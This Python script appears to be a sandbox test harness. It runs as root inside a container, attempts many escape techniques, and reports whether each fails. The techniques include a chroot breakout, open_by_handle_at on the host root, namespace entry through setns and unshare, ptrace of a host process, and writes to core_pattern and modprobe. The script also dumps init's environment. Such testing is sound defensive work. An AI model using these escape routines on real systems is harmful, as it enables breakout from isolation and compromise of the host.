"""
What somebody may try who is root in a sandbox: a program that is run in there, by a bare Python.

It writes a JSON object: what was tried, and the error, or C{null} if it went well.

    python3 attack.py PID PATH    of a process and of a file of the host
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import struct
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
PID, SECRET = int(sys.argv[1]), sys.argv[2]


def call(function: str, *arguments: object) -> int:
    result: int = getattr(LIBC, function)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def in_child(attempt: Callable[[], object]) -> None:
    """For what would change this process."""
    reading, writing = os.pipe()
    if not os.fork():
        try:
            attempt()
        except OSError as error:
            os.write(writing, str(error.errno).encode())
        os._exit(0)
    os.close(writing)
    os.wait()
    if said := os.read(reading, 100):
        raise OSError(int(said), os.strerror(int(said)))


def escape_chroot() -> None:
    """By a directory that is open outside of the new root: chroot(2)."""
    Path("/jail").mkdir(exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("/jail")
    os.fchdir(top)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    Path(SECRET).read_text()


def become_somebody() -> None:
    os.setgid(1000)
    os.setuid(1000)


def become_somebody_and_return() -> None:
    become_somebody()
    os.setuid(0)


def open_by_handle() -> None:
    """Inode 2 is the top of the host's file system: open_by_handle_at(2)."""
    handle = struct.pack("IiII", 8, 1, 2, 0)
    call("open_by_handle_at", os.open("/", os.O_RDONLY), ctypes.c_char_p(handle), os.O_RDONLY)


def clone3_with_users() -> None:
    arguments = ctypes.create_string_buffer(struct.pack("11Q", 0x10000000, *[0] * 10))
    call("syscall", 435, arguments, 88)


def numbers() -> tuple[int, int]:
    """Of add_key and keyctl."""
    return (248, 250) if os.uname().machine == "x86_64" else (217, 219)


def setuid_program() -> None:
    """What a program with setuid gains: nothing."""
    Path("/bin/busybox").chmod(0o4755)
    os.setgid(1000)
    os.setuid(1000)
    if os.system("/bin/busybox id -u | grep -qx 0"):
        raise OSError(1, "no")


ATTEMPTS: dict[str, Callable[[], object]] = {
    "mount a tmpfs": lambda: call("mount", b"x", b"/tmp", b"tmpfs", 0, None),
    "mount proc": lambda: call("mount", b"x", b"/tmp", b"proc", 0, None),
    "bind": lambda: call("mount", b"/", b"/tmp", None, 4096, None),
    "remount /proc/sys": lambda: call("mount", None, b"/proc/sys", None, 32 | 4096, None),
    "unmount /proc/sys": lambda: call("umount2", b"/proc/sys", 2),
    "unmount /": lambda: call("umount2", b"/", 2),
    "make a disk": lambda: os.mknod("/disk", 0o060600, os.makedev(8, 0)),
    "trace the host's process": lambda: call("ptrace", 16, PID, 0, 0),
    "signal the host's process": lambda: os.kill(PID, 0),
    "end the host's process by name": lambda: os.kill(-PID, 0),
    "read a file of the host": lambda: Path(SECRET).read_text(),
    "read it through init": lambda: Path(f"/proc/1/root{SECRET}").read_text(),
    "read it through the process": lambda: Path(f"/proc/{PID}/root{SECRET}").read_text(),
    "escape by chroot": lambda: in_child(escape_chroot),
    "return from somebody": lambda: in_child(become_somebody_and_return),
    "gain by setuid": lambda: in_child(setuid_program),
    "new users": lambda: in_child(lambda: call("unshare", 0x10000000)),
    "new users and mounts": lambda: in_child(lambda: call("unshare", 0x10020000)),
    "new mounts": lambda: in_child(lambda: call("unshare", 0x00020000)),
    "new users by clone3": lambda: in_child(clone3_with_users),
    "enter init's mounts": lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "open by handle": open_by_handle,
    "root's keys": lambda: call("syscall", numbers()[1], 0, -4, 1),
    "add a key": lambda: call("syscall", numbers()[0], b"user", b"x", b"y", 1, -4),
    "a program for core dumps": lambda: Path("/proc/sys/kernel/core_pattern").write_text("core"),
    "a program for modules": lambda: Path("/proc/sys/kernel/modprobe").write_text("/x"),
    "sysrq": lambda: Path("/proc/sysrq-trigger").write_text("h"),
    "the clock": lambda: call("clock_settime", 0, struct.pack("QQ", 0, 0)),
    "the host's name, at the host": lambda: call("sethostname", b"x", 1),
    "reboot": lambda: call("reboot", 0),
    "load a module": lambda: call("syscall", 175 if numbers()[0] == 248 else 105, 0, 0, b""),
    "raw packets": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    "replace /run": lambda: Path("/run").rename("/run.old"),
    "replace /proc": lambda: Path("/proc").rename("/proc.old"),
    "the memory of the machine": lambda: os.open("/dev/mem", os.O_RDONLY),
    "the kernel's memory": lambda: os.read(os.open("/proc/kcore", os.O_RDONLY), 1),
}

ALLOWED: dict[str, Callable[[], object]] = {
    "give files away": lambda: os.chown("/tmp", 12, 34),
    "be somebody": lambda: in_child(become_somebody),
    "chroot": lambda: in_child(lambda: os.chroot("/bin")),
    "set capabilities of files": lambda: os.setxattr(
        "/bin/busybox", "security.capability", struct.pack("<5I", 0x02000001, 1, 0, 0, 0)
    ),
    "read what others may not": lambda: list(Path("/root").iterdir()),
}


def outcome(attempt: Callable[[], object]) -> str | None:
    try:
        attempt()
    except OSError as error:
        return error.strerror or "error"
    return None


print(json.dumps({
    "forbidden": {name: outcome(attempt) for name, attempt in ATTEMPTS.items()},
    "allowed": {name: outcome(attempt) for name, attempt in ALLOWED.items()},
    "environment of init": Path("/proc/1/environ").read_text(),
    "command of init": Path("/proc/1/cmdline").read_text(),
    "processes": sum(path.name.isdigit() for path in Path("/proc").iterdir()),
}))  # fmt: skip
